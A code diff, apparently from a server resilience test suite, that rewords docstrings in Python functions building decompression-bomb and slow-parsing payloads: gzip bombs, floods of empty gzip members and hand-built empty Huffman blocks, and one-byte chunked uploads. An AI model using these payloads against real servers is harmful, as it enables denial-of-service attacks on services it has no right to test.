@@ -14,7 +14,7 @@ MB = 2**20
 
 
 def post_gzip(body: Callable[[], bytes], path: str = CHAT, content_type: str = JSON, times: int = 1) -> Attack:
-    """Send a body as gzip, `times` times at once."""
+    """Send a gzip body `times` times at once."""
 
     def attack(target: Target) -> None:
         headers = {"Content-Encoding": "gzip"}
@@ -25,13 +25,13 @@ def post_gzip(body: Callable[[], bytes], path: str = CHAT, content_type: str = J
 
 @cache
 def _gigabyte() -> bytes:
-    """Return a megabyte of gzip, whose members have 16 MB each."""
+    """Return a megabyte of gzip that decompresses to a gigabyte, in members of 16 MB each."""
     return gzip.compress(b" " * (16 * MB)) * 64
 
 
 @cache
 def _largest_accepted() -> bytes:
-    """Return 32 KB of gzip that are a body of 31 MB."""
+    """Return 32 KB of gzip that decompress to a body of 31 MB."""
     return gzip.compress(chat_body(b'"x":[' + b" " * LARGEST_BODY_BYTES + b"]"))
 
 
@@ -50,7 +50,7 @@ def _form() -> bytes:
 
 
 def _empty_members() -> bytes:
-    """Return empty members. The header and trailer of each take time."""
+    """Return empty members, whose headers and trailers take time to parse."""
     return gzip.compress(b"") * (SIZE // 20)
 
 
@@ -62,10 +62,10 @@ def _empty_blocks() -> bytes:
 @cache
 def _empty_dynamic_blocks() -> bytes:
     """Return a member of empty blocks, each with a Huffman code of its own (RFC 1951, section 3.2.7)."""
-    lengths = {18: 1, 1: 1}  # of the code of lengths: of many noughts, and of 1
+    lengths = {18: 1, 1: 1}  # code lengths of the symbols 18 (a run of zeros) and 1
     order = (16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1)
-    head = [(0, 1), (2, 2), (29, 5), (29, 5), (14, 4), *((lengths.get(one, 0), 3) for one in order)]
-    literals = [(1, 1), (138 - 11, 7), (1, 1), (118 - 11, 7), (0, 1)]  # none but the end of a block
+    head = [(0, 1), (2, 2), (29, 5), (29, 5), (14, 4), *((lengths.get(symbol, 0), 3) for symbol in order)]
+    literals = [(1, 1), (138 - 11, 7), (1, 1), (118 - 11, 7), (0, 1)]  # the only symbol is the end of the block
     block = [*head, *literals, (1, 1), (29 + 30 - 11, 7), (0, 1)]
     bits = "".join(format(value, f"0{size}b")[::-1] for value, size in block * 8)
     data = int(bits[::-1], 2).to_bytes(len(bits) // 8, "little")
@@ -78,7 +78,7 @@ def _endless_file_name() -> bytes:
 
 
 def one_byte_chunks(target: Target) -> None:
-    """Send it in chunks of one byte."""
+    """Send the largest accepted body in chunks of one byte."""
     body = _largest_accepted()
     headers = {**target.auth_header(), "Content-Type": JSON, "Content-Encoding": "gzip", "Transfer-Encoding": "chunked"}
     with target.connect(timeout=60) as connection:
